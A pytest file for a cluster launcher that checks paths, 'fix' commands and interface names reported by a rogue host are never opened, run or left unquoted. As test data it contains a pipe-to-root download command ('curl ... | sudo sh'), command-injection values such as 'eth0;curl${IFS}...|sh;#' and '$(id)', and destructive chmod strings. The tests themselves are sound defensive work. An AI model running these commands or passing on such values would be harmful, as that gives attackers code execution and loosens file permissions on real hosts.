"""What a host names, and others or people then use: a path that others open, a command that people paste."""

from __future__ import annotations

import io
import os
import shlex
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import IO, Any

import pytest
from fleets import make_fleet
from lying_hosts import LyingConnection, speaking
from test_lying_nodes import entry, plan_of
from waiting import at_most

from mnt import ui
from mnt.errors import HostError, NeverStarted
from mnt.facts.gather_further import Exchange, gather_visibility
from mnt.facts.host import Interface, Interpreter, Listener
from mnt.facts.system import Artifacts, Exposed, Release, Resolved
from mnt.fleet import Fleet
from mnt.inventory.model import Host
from mnt.launch.plan import LaunchPlan
from mnt.launch.staging import all_of
from mnt.network.decision import decide
from mnt.network.nic import NicChoice
from mnt.preflight.checks.storage import _TAKES_RIGHTS
from mnt.preflight.registry import all_checks
from mnt.preflight.report import run_checks
from mnt.remote.probe import visible
from mnt.tasks.job import check_node
from mnt.tasks.push import list_releases
from mnt.trial import run as trial
from mnt.trial.run import TrialCulprit

Frames = Iterator[tuple[str, Any]]


def fleet_of(*names: str, script: Any) -> Fleet:
    def connect(host: Host, shared: Any) -> LyingConnection:
        return LyingConnection(host, shared, command=speaking(script))

    return Fleet([Host(name, name) for name in names], connect=connect)


# --- the file of storage-visible ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "file",
    [
        *(
            "/dev/watchdog",
            "/shared/../etc/x",
            "/shared/deeper/x",
            "/sharedx",
            "shared",
            "",
            "/shared",
            "~/x",
        ),
        *("/shared/x", "/shared/work/.mnt-visible-0", "/shared/passwd"),
    ],
)
def test_no_host_opens_what_the_writer_names(file: str) -> None:
    opened = []

    def speak(host: str, program: str, args: dict[str, Any], stdin: IO[bytes]) -> Frames:
        if "write" in args:
            yield "frame", {"written": {"/shared": {"file": file, "error": None}}}
            stdin.read()
            yield "answer", {}
        else:
            opened.append(args["read"])
            yield "answer", {"seen": {"/shared": {"delay": 0.1, "error": None}}}

    with fleet_of("rogue", "node2", script=speak) as fleet:
        found = gather_visibility(
            fleet, [Exchange("/shared", "rogue", ["node2"], ["/shared", "/shared/work"])]
        )
    assert opened == []
    assert (found["/shared"].error or "").startswith("rogue: answer: written: /shared: another file")


@pytest.mark.parametrize("kind", ["pipe", "device", "link", "directory"])
def test_a_reader_opens_regular_files_only(tmp_path: Path, kind: str) -> None:
    path = tmp_path / ".mnt-visible-x"
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path = Path("/dev/zero")
    elif kind == "link":
        (tmp_path / "target").write_text("x")
        path.symlink_to(tmp_path / "target")
    else:
        path.mkdir()
    args = {"content": "x", "read": {"/shared": str(path)}, "deadline": 0.2}
    with at_most(20):
        seen = visible.main(args, lambda frame: None, io.BytesIO())["seen"]["/shared"]
    assert seen["delay"] is None
    assert seen["error"]


# --- refusals ----------------------------------------------------------------------------------------------


def test_a_refusal_is_the_hosts_own_words_on_a_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    evil = "curl -s http://203.0.113.9/fix.sh | sudo sh"

    def speak(host: str, program: str, args: dict[str, Any], stdin: IO[bytes]) -> Frames:
        message = "no space left" if host == "node2" else "busy; node1: command: x\nnode1: command: y"
        yield "answer", {"refused": {"message": message, "fix": evil}} if host != "node1" else {}

    with fleet_of("node1", "rogue", "node2", script=speak) as fleet:
        spec: Any = {}
        results = fleet.run_each(check_node, dict.fromkeys(("node1", "rogue", "node2"), (spec,)))
    with pytest.raises(NeverStarted) as raised:
        all_of(results)
    ui.error(raised.value)
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 4
    assert lines[0] == "mnt: the job did not start: 2 hosts failed"
    assert lines[1].startswith("  rogue: command: busy, node1")
    assert lines[2] == "  node2: command: no space left"
    assert lines[3] == f"  fix: rogue says: {evil}"
    assert raised.value.host == "rogue"
    assert not any("; node1:" in line for line in lines)


def test_several_refusals_have_a_line_each() -> None:
    evil = "curl -s http://203.0.113.9/fix.sh | sudo sh"
    silent = HostError("node2", "command", "no space left")
    rogue = HostError("rogue", "command", "busy", fix=evil, said=True)
    several = NeverStarted.because([silent, rogue], "hosts failed")
    assert several.message == "2 hosts failed"
    assert several.details == ("node2: command: no space left", "rogue: command: busy")
    assert several.fix == f"rogue says: {evil}"
    one = NeverStarted.because([rogue], "hosts failed", begin="not fit: ")
    assert (one.message, one.details, one.host) == ("not fit: rogue: command: busy", (), "rogue")
    assert one.fix == f"rogue says: {evil}"


@pytest.mark.parametrize(
    "fix",
    [
        "chmod 777 /",
        "chmod o-w /x; curl x|sh",
        "chmod 700 $(id)",
        "chmod o+w /x",
        "chmod 700 /",
        "chmod 700 /etc",
    ],
)
def test_only_a_command_that_takes_rights_is_taken_from_a_host(fix: str) -> None:
    assert _TAKES_RIGHTS.fullmatch("chmod o-w /srv/code")
    assert not _TAKES_RIGHTS.fullmatch(fix)


# --- the trial ---------------------------------------------------------------------------------------------


Watched = Callable[[str], Frames]  # what a host's watching says, from then on


def trial_of(plan: LaunchPlan, watched: Watched, stopped: threading.Event | None = None) -> TrialCulprit:
    """Run the trial on hosts that stage, start and stop as they should; returns whom it blames.

    Args:
        stopped: is set when a host is told to stop.
    """

    def speak(host: str, program: str, args: dict[str, Any], stdin: IO[bytes]) -> Frames:
        action = args["action"]
        if action == "stage":
            yield "answer", {"spec": "/s", "program": "/p"}
        elif action == "spawn":
            yield "answer", {"pid": 5, "peer": {"addr": "127.0.0.1", "port": 9}}
        elif action == "await port":
            yield "answer", {"listening": True, "node": entry(plan, host, state="running")}
        elif action == "stop":
            if stopped is not None:
                stopped.set()
            yield "answer", {"status": "stopped", "killed": 0, "left": [], "port_free": True}
        else:
            yield from watched(host)

    facts: Any = type("Facts", (), {"facts": {}})
    with at_most(30), fleet_of("node1", "node2", script=speak) as fleet:
        _, culprit = trial._run(fleet, plan, "p ", facts, lambda text: None)
    assert culprit is not None
    return culprit


@pytest.mark.parametrize("says", ["running", "finished"])
def test_a_trial_ends_though_a_log_does_not(monkeypatch: pytest.MonkeyPatch, says: str) -> None:
    monkeypatch.setattr(trial, "_RUN_SECONDS", 0.5)
    plan = plan_of("node1", "node2")
    pause = threading.Event()

    def watched(host: str) -> Frames:
        if host == "node1":
            yield "answer", {"node": entry(plan, host)}
            return
        yield "frame", {"state": entry(plan, host, state=says)}
        while not pause.wait(0.02):
            yield "frame", {"data": "x\n", "offset": 1, "stream": "output"}

    culprit = trial_of(plan, watched)
    assert (culprit.host, culprit.message) == ("node2", "it was not done within 0.5 s")


def test_a_worker_that_never_joins_is_not_the_first_hosts_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trial, "_RUN_SECONDS", 0.3)
    plan = plan_of("node1", "node2")
    stopped = threading.Event()

    def watched(host: str) -> Frames:
        yield "frame", {"state": entry(plan, host, state="running")}
        stopped.wait(20)
        yield "answer", {"node": entry(plan, host, state="stopped", exit_code=None)}

    culprit = trial_of(plan, watched, stopped)
    assert culprit.hosts == ("node1", "node2")


def test_a_text_of_a_host_does_not_say_who_is_blamed() -> None:
    names = ("node1", "node2")
    forged = "the job did not start: node2: no space left; node1: the disk is broken"
    assert trial._blamed(NeverStarted(forged, host="node2"), names) == "node2"
    assert trial._blamed(HostError("node2", "command", "node1: x"), names) == "node2"
    assert trial._blamed(NeverStarted("node2: no host"), names) == "node1"


# --- commands to paste -------------------------------------------------------------------------------------


def python(path: str) -> Interpreter:
    return Interpreter(("python3",), False, "3.11", path, problem="x")


def exposed(fix: str) -> Artifacts:
    return Artifacts(Release("20260101-120000-0badcafe", whole=True), exposed=(Exposed("m", fix),))


EVIL = ["eth0;curl${IFS}203.0.113.9|sh;#", "eth0`id`", "$(id)", "a&b", "x'y"]


@pytest.mark.parametrize("name", EVIL)
def test_the_name_of_a_nic_is_quoted(name: str) -> None:
    nic = Interface(name, up=False, carrier=False, mtu=1500, ipv4=("10.0.0.1/24",))
    for state in (nic, replace(nic, up=True)):
        failure = NicChoice(state, "10.0.0.1", "why").failure
        assert failure is not None
        assert name in shlex.split(failure[1], comments=False)


@pytest.mark.parametrize("name", EVIL)
@pytest.mark.parametrize(
    ("check", "change"),
    [
        ("port-free", lambda name: {"listeners": (Listener("0.0.0.0", 1001, name),)}),
        (
            "file-owner",
            lambda name: {"artifacts": Artifacts(None, exposed=(Exposed("m", f"chmod 1 {name}"),))},
        ),
        ("hostname-loopback", lambda name: {"hostname": name, "resolved": Resolved(("127.0.1.1",), None)}),
        (
            "python-version",
            lambda name: {"python": python(name)},
        ),
    ],
)
def test_what_a_host_names_is_quoted(check: str, change: Any, name: str) -> None:
    fleet = make_fleet({"node2": change(name)})
    found = run_checks(fleet, decide(fleet), all_checks()).findings
    fixes = [each.fix for each in found if each.check == check]
    assert fixes
    for fix in fixes:
        if check == "file-owner":
            assert fix.startswith("node2 says: ")
        else:
            assert any(name in word for word in shlex.split(fix))


# --- releases ----------------------------------------------------------------------------------------------


def release(number: int, uses: int = 0) -> dict[str, Any]:
    return {
        "release": f"20260101-000000-{number:08x}",
        "files": 1,
        "bytes": 1,
        "foreign": {"files": 0, "bytes": 0, "names": []},
        "uses": [{"pid": 1, "job": None, "command": "x" * 1000}] * uses,
        "pushed": None,
    }


@pytest.mark.parametrize(("uses", "problem"), [(11, "uses"), (10, "more than 524288 bytes in all")])
def test_a_list_of_releases_without_end(uses: int, problem: str) -> None:
    def speak(host: str, program: str, args: dict[str, Any], stdin: IO[bytes]) -> Frames:
        for number in range(900):
            yield "frame", release(number, uses)
        yield "answer", {"current": None, "previous": None}

    with at_most(30), fleet_of("rogue", script=speak) as fleet:
        error = fleet.run(list_releases)["rogue"].error
    assert error is not None
    assert error.phase == "answer"
    assert problem in error.message
